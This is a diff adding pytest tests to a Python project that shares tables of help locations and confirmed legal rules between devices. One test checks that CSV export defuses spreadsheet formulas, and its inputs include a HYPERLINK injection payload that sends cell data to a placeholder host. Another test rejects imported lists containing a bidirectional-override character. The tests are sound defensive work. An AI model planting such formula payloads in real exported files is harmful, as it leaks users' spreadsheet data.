@@ -1,5 +1,7 @@
 """Places of help and confirmed rules: a table whole or not at all, and sealed to each device."""
 
+import csv
+import io
 import json
 from dataclasses import replace
 from datetime import date
@@ -11,7 +13,7 @@ import pytest
 
 from depter.desk.config import Config
 from depter.desk.desk import Desk
-from depter.desk.handbook.book import handbook_id
+from depter.desk.handbook.book import _read, handbook_id
 from depter.desk.handbook.explain import fault_line
 from depter.desk.handbook.places import (
     COLUMNS,
@@ -61,6 +63,18 @@ def test_a_table_is_read_as_spreadsheets_write_it(divider: str) -> None:
     assert place.kinds == ("medical", "social") and place.languages == ("ky", "ru") and place.agreed
     assert read_table(write_table([place]), TODAY) == [place]
     assert read_table(write_table([]), TODAY) == []
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x/?"&A1)', "+996 312 1", "-1+1", "@SUM(A1)", "'=1", "''+1", "'s"]
+)
+def test_no_cell_of_the_table_is_a_formula(name: str) -> None:
+    [place] = read_table(table({"name": name.replace('"', '""')}), TODAY)
+    told = replace(place, phone=name, caution=name)
+    written = write_table([told]).decode("utf-8-sig")
+    [row] = csv.DictReader(io.StringIO(written, newline=""))
+    assert not {cell[:1] for cell in row.values()} & set("=+-@\t\r")
+    assert read_table(written.encode(), TODAY) == [told]
 
 
 @pytest.mark.parametrize(
@@ -341,3 +355,27 @@ def test_the_page_of_rules_says_unverified_until_a_lawyer_signs(browser: Browser
 
 def open_file(data: bytes) -> BytesIO:
     return BytesIO(data)
+
+
+@pytest.mark.parametrize(
+    ("part", "change"),
+    [
+        ("places", {"verified_on": "soon"}),
+        ("places", {"name": 7}),
+        ("places", {"kinds": [None]}),
+        ("places", {"agreed": "yes"}),
+        ("places", {"caution": "a\u202eb"}),
+        ("confirmed", {"verified_on": "soon"}),
+        ("confirmed", {"verified_by": ["x"]}),
+    ],
+)
+def test_a_list_of_another_desk_that_no_page_can_show_is_not_taken(
+    part: str, change: dict[str, object]
+) -> None:
+    place = {**GOOD, "kinds": ["medical"], "languages": ["ky"], "agreed": True}
+    rule = {"rule_id": "KG.crime", "verified_by": "A", "verified_on": "2026-11-02"}
+    told: dict[str, Any] = {"v": 1, "serial": 1, "at": "2026-11-18T11:06:40Z"}
+    told |= {"places": [place], "confirmed": [rule]}
+    assert _read(json.dumps(told)) is not None
+    told[part] = [told[part][0] | change]
+    assert _read(json.dumps(told)) is None
